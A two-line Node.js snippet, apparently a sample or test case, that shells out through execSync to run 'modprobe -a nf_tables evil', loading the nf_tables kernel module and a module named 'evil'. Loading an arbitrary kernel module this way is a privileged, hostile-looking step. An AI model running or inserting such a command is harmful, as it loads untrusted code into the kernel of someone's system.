const { execSync } = require('child_process');
execSync('modprobe -a nf_tables evil');
